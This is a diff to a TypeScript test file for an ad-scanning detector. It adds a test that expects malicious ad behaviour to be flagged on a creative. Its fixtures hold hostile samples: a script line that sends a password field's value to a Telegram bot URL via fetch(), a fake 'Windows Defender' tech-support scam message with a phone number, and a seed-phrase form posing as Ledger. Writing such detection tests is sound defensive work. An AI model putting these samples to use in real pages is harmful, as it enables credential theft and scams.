@@ -1,9 +1,11 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import type { CapturedCreative } from '@adsweep/shared/capture/creative.ts';
+import type { NetworkRequest } from '@adsweep/shared/capture/network-request.ts';
 import { classify } from '../../../src/analysis/classification/classify.ts';
 import { creativeEmpty, creativeInteractive } from '../../../src/analysis/detectors/behaviors/creatives.ts';
 import { autoRedirect } from '../../../src/analysis/detectors/behaviors/navigation.ts';
+import { detect } from '../../../src/analysis/detectors/detect.ts';
 import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
 import { pictureName } from '../../../src/crawling/captures/open-artifact.ts';
 import { evidenceOf } from '../../../src/crawling/captures/present-evidence.ts';
@@ -16,6 +18,11 @@ const CREATIVE: CapturedCreative = {
   page_url: 'https://news.example/',
   page_title: 'news.example',
   redirect_chain: [],
+};
+
+const REQUEST: NetworkRequest = {
+  ...{ id: 0, url: '', method: 'GET', resource_type: 'script', status_code: 200, content_type: 'text/javascript' },
+  ...{ body_size: 80, timestamp_ms: 0, landing: null, hop: null, initiator: null, surface: 'creative' },
 };
 
 const checked = (inert: string) => ({
@@ -37,6 +44,55 @@ describe('what is found on a creative', () => {
     ]);
     assert.deepEqual(creativeInteractive.detect(checked('')), []);
     assert.deepEqual(creativeInteractive.detect(NO_EVIDENCE), []);
+  });
+
+  test('what an ad on a page does in its frames, and what its documents say, is found on the creative', () => {
+    const ofCreative = { landing: null, url: CREATIVE.url };
+    const sound = { via: 'play', muted: false, volume: 1, started: true, has_audio: true } as const;
+    const trap = { pushes: 5, copies: 5, popstate_listener: true, probe_url: '' };
+    const threat =
+      'Windows Defender: your computer is infected with 5 viruses. Call +1 888 555 0123 now. Do not restart.';
+    const document = { ...ofCreative, frame: 'F1', title: '', text: threat, html: threat };
+    const requests = [{ ...REQUEST, url: 'https://ads.example/script.js' }];
+    const text = "fetch('https://api.telegram.org/bot1/sendMessage?text=' + password.value)";
+    const bodies = [
+      {
+        url: 'https://ads.example/script.js',
+        resource_type: 'script',
+        content_type: 'text/javascript',
+        bytes: 80,
+        text,
+      },
+    ];
+    const { findings } = detect({
+      ...NO_EVIDENCE,
+      ...{ creative: CREATIVE, documents: [document], requests, bodies },
+      observations: [
+        { kind: 'autosound', ...ofCreative, facts: sound },
+        { kind: 'back_button', ...ofCreative, facts: trap },
+        { kind: 'invalid_certificate', ...ofCreative, facts: { host: 'ads.example', reason: 'expired' } },
+        { kind: 'dialogs', ...ofCreative, facts: { count: 3 } },
+        {
+          kind: 'form',
+          ...ofCreative,
+          facts: { fields: ['seed_phrase'], action_url: 'https://t.example/', text: 'Ledger' },
+        },
+      ],
+    });
+    const found = findings.map(({ tag_slug, surface }) => `${tag_slug} ${surface}`);
+    const expected = [
+      'autosound',
+      'back_button',
+      'dialog_loop',
+      'invalid_certificate',
+      'malicious_script',
+      'scareware',
+    ];
+    for (const slug of expected) assert.ok(found.includes(`${slug} creative`), `${slug}: ${found}`);
+    assert.deepEqual(
+      found.filter((one) => one.endsWith(' page')),
+      [],
+    );
   });
 
   test('an ad tag that renders nothing is a finding', () => {
